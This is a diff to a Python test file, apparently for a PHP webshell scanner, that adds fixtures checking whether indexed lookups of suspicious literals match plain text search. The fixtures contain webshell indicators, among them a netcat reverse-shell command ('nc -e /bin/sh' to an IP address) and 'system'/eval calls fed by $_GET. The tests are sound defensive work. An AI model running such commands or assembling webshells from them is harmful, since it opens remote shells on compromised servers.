@@ -87,10 +87,12 @@ def test_an_asp_picture_shell_with_nul_bytes_is_read_as_a_script():
     assert verdict and verdict.get("kind") == "webshell", verdict
 
 
-# Literal lookups in a large text go to its distinct words (php.words_of); these compare them with the plain lookups
-# in the text itself (WORDS_FROM raised so that no text is large), on texts of both sizes.
+# Literal lookups in a large text go to its distinct names first (php.words_of); these compare them with the plain
+# lookups in the text itself (WORDS_FROM raised so that no text is large), on texts of both sizes. NEAR_MISSES holds
+# the name parts of literals without the literals ($_get, eval(, php://input, user-agent, ${').
+NEAR_MISSES = "<?php\n$x_getx = 1; xeval (1); myphp:/inputs; user_agentx-agent; ${ 'a'}; nc-e; cmd_exe; /bin/shx\n"
 LITERALS = ("<?php\n$s = \"nc -e /bin/sh 10.0.0.1\"; // scatter hitam\n$a = 'system'; $b = \"'assert'\";\n"
-            "echo 'uname -a', 'rtp live', ' slot', 'poker'; @eval ( $x );\n")
+            "echo 'uname -a', 'rtp live', ' slot', 'poker'; @eval ( $x ); $_postx = xeval($y);\n")
 
 
 def _lookups(low):
@@ -104,7 +106,8 @@ def _lookups(low):
 def test_lookups_in_the_words_of_a_large_text_find_what_the_text_holds(monkeypatch):
     from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import php
 
-    for body in (LITERALS, FILLER + LITERALS, FILLER, FILLER + "$_GET['x'] 'exec' ${'a'}\n"):
+    for body in (LITERALS, FILLER + LITERALS, FILLER, FILLER + "$_GET['x'] 'exec' ${'a'}\n", NEAR_MISSES,
+                 FILLER + NEAR_MISSES):
         low = ("<?php\n" + body + "passthru(\n proc_open( 'shell_exec' cmd.exe\n").lower()
         assert len(low) < php.WORDS_FROM or php.words_of(low) is not low
         fast = _lookups(low)
@@ -149,3 +152,11 @@ def test_folding_joins_again_what_an_earlier_join_made_joinable():
     assert decode.normalise("$f = ('sy' . 'stem'); $f($_GET['c']);") == "$f ='system'; 'system'($_GET['c']);"
     folded = decode.normalise("$a = 'stem'; $f = ('sy' . $a); $f($_GET['c']);")
     assert folded == "$a = 'stem'; $f ='system'; 'system'($_GET['c']);"
+
+
+def test_a_text_with_characters_beyond_latin_1_is_looked_up_as_it_is():
+    from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import php
+
+    low = FILLER.lower() + "\u0100 eval($x);"
+    assert php.words_of(low) is low
+    assert "eval" in php.heads_in(low)
